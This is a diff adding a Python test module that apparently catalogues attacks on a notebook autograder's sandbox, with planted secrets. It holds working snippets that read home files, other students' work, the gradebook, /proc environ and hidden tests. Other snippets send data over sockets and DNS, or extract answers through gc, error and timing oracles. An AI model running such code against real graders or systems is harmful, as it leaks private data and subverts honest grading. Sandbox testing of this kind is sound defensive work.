@@ -1,0 +1,153 @@
+"""What a submission could read, and carry out. A secret is planted at every place; only secrets are ever shown."""
+
+from . import Attack
+
+KIND = "Leaks"
+
+ATTACKS = [
+    Attack(
+        "home-file",
+        "reads a file in the instructor's home folder",
+        "files on disk",
+        "leak",
+        cell="show(open(f'{HOME}/secret.txt').read())",
+    ),
+    Attack(
+        "neighbour",
+        "reads another student's submission, by path and by walking up",
+        "other students",
+        "leak",
+        cell="""
+import pathlib
+for root in (COURSE, '../../..'):
+    for file in pathlib.Path(root).glob('*/ada/1-padding/*.ipynb'):
+        show(file.read_text())
+""",
+    ),
+    Attack(
+        "gradebook-read",
+        "reads addresses from the gradebook",
+        "gradebook",
+        "leak",
+        cell="import sqlite3\nshow(sqlite3.connect(f'{COURSE}/gradebook.db').execute('select * from student').fetchall())",
+    ),
+    Attack("environment", "reads the environment", "environment", "leak", cell="import os\nshow(os.environ)"),
+    Attack(
+        "arguments",
+        "reads the arguments of the process that started the kernel",
+        "arguments, /proc",
+        "leak",
+        cell="import os\nshow(open(f'/proc/{os.getppid()}/cmdline').read())",
+    ),
+    Attack(
+        "proc-environ",
+        "reads the environment of its parent through /proc",
+        "/proc",
+        "leak",
+        cell="import os\nshow(open(f'/proc/{os.getppid()}/environ').read())",
+    ),
+    Attack(
+        "hidden-tests",
+        "reads the hidden tests' module, from disk or from linecache",
+        "files on disk, linecache",
+        "leak",
+        cell="""
+import inspect, linecache, autograde_tests
+show(inspect.getsource(autograde_tests))
+folder = autograde_tests.__file__.rpartition('/')[0]
+show(''.join(linecache.getlines(f'{folder}/padding.py')))
+""",
+    ),
+    Attack(
+        "gc",
+        "finds expected values among all objects of the process while being called",
+        "gc",
+        "points",
+        functions={
+            "pad2d": """
+import gc
+def pad2d(images, kernel_size, strides=(1, 1), padding='same'):
+    for answers in gc.get_objects():
+        if type(answers) is list and len(answers) == 9 and answers[7] is None:
+            for answer in answers:
+                # The images are somewhere in the right answer, which is no larger than it has to be.
+                if getattr(answer, 'ndim', 0) == 4 and set(images.flat) == set(answer.flat) - {0}:
+                    if padding == 'valid' or answer.shape != images.shape:
+                        return answer
+"""
+        },
+    ),
+    Attack(
+        "network",
+        "calls a server",
+        "network",
+        "effect",
+        cell="import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).sendall(ME.encode())",
+    ),
+    Attack(
+        "abstract-socket",
+        "calls a listener on an abstract Unix socket, which has no file that could be hidden",
+        "network, sockets",
+        "effect",
+        cell="import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(2)\ns.connect(f'\\0{TOKEN}')\ns.sendall(ME.encode())",
+    ),
+    Attack(
+        "dns",
+        "puts what it knows into the question of a DNS packet",
+        "DNS",
+        "effect",
+        cell="import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(ME.encode(), ('127.0.0.1', PORT))",
+    ),
+    Attack(
+        "records-inputs",
+        "hidden inputs are recorded and carried out to a file for those who are graded later",
+        "inputs recorded",
+        "effect",
+        functions={
+            "pad2d": "def pad2d(images, *rest, **more):\n    open(f'{LOOT}/{ME}', 'a').write(repr((images, rest, more)))\n"
+            "    raise NotImplementedError"
+        },
+        cell="# LOOT ME",
+    ),
+    Attack(
+        "error-oracle",
+        "a hidden input is told in the text of an exception, a name and a line of source",
+        "error messages as oracle",
+        "leak",
+        functions={
+            "pad2d": """
+import sys
+def pad2d(*inputs, **more):
+    frame = sys._getframe()
+    while frame and 'answers' not in frame.f_locals:
+        frame = frame.f_back
+    names = frame and frame.f_globals['load_checks']()['padding_amounts'].oracle.__name__
+    raise ValueError(names)
+"""
+        },
+    ),
+    Attack(
+        "timing-oracle",
+        "asks the check again and again, and learns from what it says and how long it takes",
+        "timing as oracle",
+        "points",
+        functions={
+            "output_size": """
+from autograde_tests import check
+known, asked = {}, []
+def output_size(*case, **more):
+    case += tuple(more.values())
+    asked.append(case)
+    return known.get(case, -1)
+score = lambda: check('output_size', output_size, points=100).score
+best = score()
+for case in list(dict.fromkeys(asked)):
+    for known[case] in range(1, 45):
+        if score() > best:
+            best = score()
+            break
+"""
+        },
+        honest=0,
+    ),
+]
